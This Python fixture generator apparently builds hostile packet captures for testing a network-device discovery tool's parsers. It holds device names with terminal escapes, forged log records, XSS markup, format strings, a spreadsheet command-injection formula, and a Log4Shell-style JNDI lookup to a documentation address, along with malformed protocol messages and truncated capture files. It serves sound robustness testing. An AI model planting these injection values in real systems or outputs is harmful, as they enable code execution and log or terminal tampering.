# SPDX-License-Identifier: Apache-2.0
"""Captures meant to harm: words for terminals and logs, broken messages of every protocol, broken files."""

import gzip
import struct

from scenes.formats import CAMERA, small_packets, small_truth
from scenes.stage import *


def words():
    lldp_mac, http_mac, csv, broken, nul, names = (f"00:1e:73:00:05:0{n}" for n in range(1, 7))
    page_mac, sadp_mac, victim = "44:19:b6:00:05:07", "44:19:b6:00:05:08", "18:66:da:00:05:09"
    escape = "\x1b]0;owned\x07\x1b[2J\x1b[31mZXR10\x1b[0m\r\nkind\":\"alert\"\n{\"kind\":\"alert\",\"id\":\"forged\"}"
    frames = [
        ethernet(LLDP_GROUP, lldp_mac, 0x88CC, lldp(lldp_mac, "p\n1", "sw\x1b[8m", escape, "192.0.2.1")),
        ethernet(LLDP_GROUP, csv, 0x88CC,
            lldp(csv, "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://192.0.2.66\")", "192.0.2.3")),
        ethernet(LLDP_GROUP, broken, 0x88CC,
            lldp(broken, b"\xff\xfe", b"\xc0\xaf\xed\xa0\x80",
                b"ZXR10 \xf5\x80\x80\x80 \xe2\x28\xa1 \xe2\x80\xae01RXZ", "192.0.2.4")),
        ethernet(LLDP_GROUP, nul, 0x88CC,
            lldp(nul, "p1", b"sw\0itch", b"ZXR10\0<script>alert(1)</script>\0", "192.0.2.5")),
        ethernet(LLDP_GROUP, names, 0x88CC, lldp(names, "%s%n%x", "CEF:0|a|b|c|d|e|9|x=1", "A" * 511, "192.0.2.6"))]
    frames += by_tcp(victim, "192.0.2.9", http_mac, "192.0.2.2", 80, [
        ("client", get(agent="\x1b[1m${jndi:ldap://192.0.2.66/a}")),
        ("server", b"HTTP/1.1 200 OK\r\nServer: ZTE corp\0\x1b[5m\x9b31m\r\nX-Powered-By: =1+1\r\nSet-Cookie: a\r\n\r\n")])
    frames += by_tcp(victim, "192.0.2.9", page_mac, "192.0.2.7", 80, [
        ("client", get()), ("server", "HTTP/1.1 401 No\r\nServer: <img src=x onerror=alert(1)>\r\n"
                            "WWW-Authenticate: Digest realm=\"IP Camera(</script><b>)\"\r\n\r\n")], 50001)
    frames += by_tcp(victim, "192.0.2.9", page_mac, "192.0.2.7", 8080, [
        ("client", get()), ("server", "HTTP/1.1 200 OK\r\nServer: " + "a" * 1300)], 50002)
    frames.append(by_udp(sadp_mac, "192.0.2.8", 37020, ALL_SSDP, 37020, sadp_answer(
        sadp_mac, "DS-2CD\x1b[0m&lt;x&gt;", "<![CDATA[]]><!ENTITY a 'b'>", "999.1.1.1", "x", "V5\n=1+1")))
    frames.append(by_udp(sadp_mac, "192.0.2.8", 37810, ALL_DHIP, 37810, b"\x20\0\0\0DHIP" + b"\0" * 8 + struct.pack(
        "<IIII", 0xFFFFFFFF, 0, 60, 0) + b'{"params":{"deviceInfo":{"Vendor":"\\u001b[2J\\ud800' + b'{"a":' * 5))
    return Scene("hostile.pcap", "Words meant to harm whoever prints them: ANSI escapes, line feeds, formulas, broken UTF-8, "
                 "NUL, markup, format strings, forged records", pcap(frames), [
        Device(lldp_mac, "192.0.2.1", "zte", "oui,lldp", "escapes, line feeds, a forged JSON record; says ZXR10"),
        Device(http_mac, "192.0.2.2", "zte", "oui,http", "NUL and C1 in the Server line"),
        Device(csv, "192.0.2.3", "zte", "oui", "name =cmd|..., port @SUM(1)"),
        Device(broken, "192.0.2.4", "zte", "oui,lldp", "invalid UTF-8, overlong, surrogate, right-to-left mark"),
        Device(nul, "192.0.2.5", "zte", "oui,lldp", "NUL and a script in name and description"),
        Device(names, "192.0.2.6", "zte", "oui", "format strings, a forged CEF head, 511 octets"),
        Device(page_mac, "192.0.2.7", "hikvision", "oui,http",
            "markup in Server and realm; a Server line without end"),
        Device(sadp_mac, "192.0.2.8", "hikvision", "oui,sadp",
            "entities and escapes in SADP; a DHIP length of 4 GiB"),
        Device(victim, "192.0.2.9", "-", "oui,http", "Dell PC; user agent with an escape and a look-up string")])


def messages():
    source, host, target = "44:19:b6:00:06:01", "192.0.2.61", BROADCAST
    whole = lldp(source, "p1", "name", "description", host)

    def raw(kind, payload, tags=()):
        return ethernet(target, source, kind, payload, tags)

    def port(number, payload, goal=ALL_SSDP):
        return by_udp(source, host, number, goal, number, payload)

    name_loop = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0) + b"\xc0\x0c" + struct.pack("!HHIH", 12, 1, 120,
        2) + b"\xc0\x0c"
    ip_long = ip(host, "192.0.2.9", 17, b"\0" * 8)
    frames = [raw(0x88CC, b"\x02\x07\x04" + mac(source) + b"\x0d\xff\x58"), raw(0x88CC, whole[:30]),
        raw(0x88CC, b""),
              raw(0x88CC, b"\0\0"), raw(0x88CC, lldp_tlv(127, b"\0\x12")),
                  raw(0x0806, arp(1, source, host, target, host)[:12]),
              raw(0x0806, b"\0\1\x08\0\xff\xff\0\1"), port(5353, name_loop, ALL_MDNS),
                  port(5353, b"\0" * 11, ALL_MDNS),
              port(5353, struct.pack("!HHHHHH", 0, 0x8400, 65535, 65535, 65535, 65535), ALL_MDNS),
              port(161, b"\x30\x84\xff\xff\xff\xff\x02\x01\x01"),
                  port(161, b"\x30\x80\x02\x01\x01\x04\x06public\0\0"),
              port(161, b"\x30" * 200), port(162, snmp_trap1("1.3.6.1.4.1.2011", host)[:20]),
              port(67, dhcp(1, source, [(60, "x")])[:200], ALL_DHCP),
              port(67, dhcp(1, source, [(60, "x")]).rstrip(b"\0")[:-1] + b"\x0c\xffshort", ALL_DHCP),
              port(67, b"\1\1\xff" + b"\0" * 240, ALL_DHCP), port(37020, "<ProbeMatch><MAC>44-19-b6"),
              port(37020, "<" * 900), port(37020, "<Types>" + "x" * 1200), port(37810, b"\x20\0\0\0DHIP"),
              port(37810, b"\x20\0\0\0DHIP" + b"\xff" * 24 + b"{" * 400), port(1900, "NOTIFY"),
                  port(1900, "\r\n" * 300),
              raw(0x8033, b"\x21"), raw(0x8033,
                  sadp_raw(True, 255, source, host, target, host, host, b"\xff" * 60)),
              raw(0x0806, arp(1, source, host, target, host), [(0x8100, number) for number in range(1, 17)]),
              raw(0x0800, ip_long[:10]), raw(0x0800, b"\x4f" + ip_long[1:]), raw(0x0800, b"\x41" + ip_long[1:]),
              raw(0x0800, ip_long[:2] + b"\xff\xff" + ip_long[4:]),
                  raw(0x0800, ip(host, "192.0.2.9", 17, b"\xff" * 40, fragment=0x3FFF)),
              raw(0x0800, ip(host, "192.0.2.9", 6, tcp(host, 1, "192.0.2.9", 2, ACK, 0, 0, b"SSH-")[20:32] +
                  b"\xf0\x10" + b"\0" * 4)),
              raw(0x86DD, struct.pack("!IHBB", 6 << 28, 64, 0, 64) + address("fe80::1") + address("ff02::1") +
                  b"\0\0\0\0\0\0\0\0" * 8),
              raw(0x86DD, icmp6("fe80::1", "ff02::1", 134, struct.pack("!BBHII", 64, 0, 0, 0, 0) + b"\x01\0\0\0")),
              raw(0x86DD, udp("fe80::1", 546, "ff02::1:2", 547, b"\x01\0\0\0" + struct.pack("!HH", 1, 65535) +
                  b"\0\2")),
              raw(0x86DD, udp("fe80::1", 547, "ff02::1:2", 547, (b"\x0c\0" + b"\0" * 32 + b"\0\x09\0\x40") * 12)),
              snap(CDP_GROUP, source, 0x00000C, 0x2000, b"\x02\xb4\0\0\0\1\0\0"),
              snap(CDP_GROUP, source, 0x00000C, 0x2000, b"\x02\xb4\0\0\0\2\0\x0c\xff\xff\xff\xff\0\0\0\0"),
              mac(target) + mac(source), b"\x01", mac(target) + mac(source) + b"\x81\0"]
    return Scene("hostile-malformed.pcap",
        "Broken messages of every protocol: lengths beyond the end, loops, endless nesting, "
                 "cut headers", pcap(frames), [
        Device(source, "192.0.2.61", "hikvision", "oui",
            "sends only broken messages; its MAC and IP headers are mostly whole")])


def files():
    whole = pcap([ethernet(t, s, k, p) for s, t, k, p in small_packets()])
    camera = [Device(CAMERA, "192.0.2.21", "hikvision", "oui", "in the whole packets before the cut")]
    yield Scene("hostile-cut.pcap", "ends in the middle of the second packet (a capture that was killed)",
        whole[:24 + 16 + 60 + 16 + 100], camera)
    yield Scene("hostile-cut-head.pcap", "ends in the middle of a packet's head", whole[:24 + 16 + 60 + 7], camera)
    yield Scene("hostile-length.pcap", "second packet claims 2 GiB", whole[:24 + 16 + 60 + 8] +
        b"\xff\xff\xff\x7f" * 2 + whole[-50:], camera)
    yield Scene("hostile-empty.pcap", "a file head and no packet", whole[:24])
    yield Scene("hostile-nothing.pcap", "no octet at all", b"")
    yield Scene("hostile-text.pcap", "no capture: text", b"This is no capture.\nServer: Hikvision-Webs\n" * 5)
    yield Scene("hostile-link.pcap", "a link type that we do not read (12345)", pcap([b"\0" * 60], 12345))
    small = pcapng([("tap0", LINK_ETHERNET, 6)], [(0, ethernet(t, s, k, p)) for s, t, k, p in small_packets()])
    yield Scene("hostile-cut.pcapng", "pcapng, ends in the middle of a block", small[:len(small) - 33],
        small_truth(" (the last packet is lost)"))
    yield Scene("hostile-cut.pcap.gz", "gzip, cut in the middle of its stream", gzip.compress(whole, mtime=0)[:300])
